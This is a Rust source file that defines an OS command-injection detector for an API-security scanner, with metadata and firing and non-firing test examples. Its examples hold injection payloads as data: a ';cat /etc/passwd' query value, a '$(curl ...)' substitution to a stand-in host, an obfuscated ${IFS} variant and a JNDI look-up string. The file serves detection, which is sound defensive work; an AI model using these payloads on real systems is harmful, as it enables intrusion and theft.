//! OS command injection: a value that leaves its place in a shell command.

use bartizan_model::{Attack, Confidence, Cwe, Input, ItemMeta, Owasp, Severity, Stage, Status};

use crate::detectors::injection::{
    Found, example,
    prefilter::{Family, Scan, Suspect},
    report, shell,
};
use crate::{
    detectors::{DetectorExample, DetectorItem, Hit, Key, Lane},
    facts::Facts,
};

/// The detector.
pub static DETECTOR: DetectorItem = DetectorItem {
    meta: ItemMeta {
        code: "BZ-D008",
        name: "command-injection",
        title: "OS command injection",
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        status: Status::Stable,
        owasp: Some(Owasp::Api8),
        cwe: &[Cwe(78), Cwe(77)],
        attack: &[Attack("T1190")],
        inputs: &[Input::RequestHead, Input::RequestBody],
        what: "Looks for a separator or substitution of a shell followed by a command with plausible arguments, with quotes, backslashes and ${IFS} undone, in a value that is no command itself; function definitions of Shellshock and look-ups of JNDI have rules of their own. A value that begins as a command, as build steps do, is at most a hint. Text that mentions an attack in prose, documents of many lines and whole statements by design stay at low confidence. Scores from 80 are high, from 55 medium, from 30 low confidence; an answer with the error or loot of such an attack adds 15.",
        why: "The server runs a program of the caller's choice.",
        fix: "Call programs without a shell and with an argument list; allow values by pattern; use a library instead of a program.",
        references: &["CWE-78", "CVE-2014-6271", "CVE-2021-44228"],
    },
    class: Family::Command.class(),
    key: Key::None,
    stage: Stage::Probing,
    lane: Lane::Leaves(run),
    examples: EXAMPLES,
};

fn run(facts: &Facts<'_>, scan: &Scan<'_>, out: &mut Vec<Hit>) {
    report(facts, scan, Family::Command, Severity::Critical, judge, out);
}

const EXAMPLES: &[DetectorExample] = &[
    DetectorExample {
        name: "Separator in a query parameter",
        fires: true,
        exchanges: || vec![example("/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "")],
    },
    DetectorExample {
        name: "Substitution in JSON",
        fires: true,
        exchanges: || {
            vec![example("/v1/convert", "{\"file\": \"a.png$(curl http://192.0.2.1/x)\"}")]
        },
    },
    DetectorExample {
        name: "Hidden white space and quotes",
        fires: true,
        exchanges: || vec![example("/v1/convert", "{\"file\": \"a.png|c'a't${IFS}/etc/hosts\"}")],
    },
    DetectorExample {
        name: "JNDI look-up",
        fires: true,
        exchanges: || {
            vec![example("/v1/items", "{\"name\": \"${${lower:j}ndi:ldap://192.0.2.1/a}\"}")]
        },
    },
    DetectorExample {
        name: "Build steps",
        fires: false,
        exchanges: || {
            vec![example("/v1/pipelines", "{\"script\": \"npm ci && npm test && ls -la dist\"}")]
        },
    },
    DetectorExample {
        name: "Prose",
        fires: false,
        exchanges: || {
            vec![example(
                "/v1/posts",
                "{\"text\": \"First wash; then cat food & toys | sort them by id; who knows.\"}",
            )]
        },
    },
    DetectorExample {
        name: "Code in backticks in prose",
        fires: false,
        exchanges: || {
            vec![example(
                "/v1/posts",
                "{\"text\": \"Please run `ls -la` in the folder and send the result.\"}",
            )]
        },
    },
    DetectorExample {
        name: "Query string inside a value",
        fires: false,
        exchanges: || {
            vec![example("/v1/links", "{\"url\": \"https://example.com/?a=1&id=2&sort=name\"}")]
        },
    },
];

fn judge(suspect: &Suspect<'_>) -> Option<Found> {
    shell::judge(&suspect.text)
}
